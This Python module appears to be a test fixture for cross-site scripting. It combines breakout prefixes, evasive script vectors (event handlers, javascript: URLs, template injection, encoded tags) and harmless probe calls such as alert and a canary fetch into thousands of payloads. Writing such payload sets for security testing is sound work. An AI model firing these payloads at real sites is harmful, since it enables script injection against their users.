"""Scripts in disguise, by the thousand: what breaks out of its place × what would run there × how its call is written.

They are put together here and come from no list: the places are those that the site, its files and its reports have,
the vectors those that a browser runs without a click or with one, the calls end in something that a test can see.
"""

from collections.abc import Iterator
from itertools import product

BREAKOUTS = (
    "", '"', "'", "`", '">', "'>", "-->", "]]>", "</title>", "</script>", "</style>", "</textarea>", "</select>",
    "</table>", "</dd></dl>", "</a>", "</svg>", "</template>", "\\", "%22%3E", "＂＞", "&quot;>",
    '"}]', "*/", "${{'", "{{ ",
)  # fmt: skip
"""What a text would begin with to leave an element, an attribute, a script, a template, a JSON answer."""
VECTORS = (
    "<script>{call}</script>",
    "<ScRiPt\u3000x>{call}</ScRiPt>",
    "<script/x>{call}//</script >",
    "<img src=x onerror={call}>",
    '<img src="x" OnError="{call}"',
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe src=javascript:parent.{call}></iframe>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}></video>",
    "<object data=javascript:{call}></object>",
    "<style onload={call}></style>",
    '<math><mtext><img src=x onerror="{call}">',
    "<a href=javascript:{call}>甲</a>",
    "[甲](javascript:{call})",
    " onmouseover={call} autofocus onfocus={call} x=",
    "{{{{constructor.constructor('{call}')()}}}}",
    "＜script＞{call}＜/script＞",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "%3Cscript%3E{call}%3C/script%3E",
)
"""What would run: at once, once loaded or touched, or if somebody undid an encoding once too often."""
AT_ONCE = VECTORS[:16]
"""Those that run by themselves where they are put in raw."""
CALLS = (
    "alert(1)",
    "confirm`1`",
    "top['pro'+'mpt'](1)",
    "print()",
    "\\u0061lert(1)",
    "&#97;lert(1)",
    "document.title='ran'",
    "fetch('//canary.invalid/1')",
)
"""All are seen by a test's hooks."""


def payloads() -> list[str]:
    return list(dict.fromkeys(_combined()))


def _combined() -> Iterator[str]:
    for call, vector, breakout in product(CALLS, VECTORS, BREAKOUTS):
        yield breakout + vector.format(call=call)
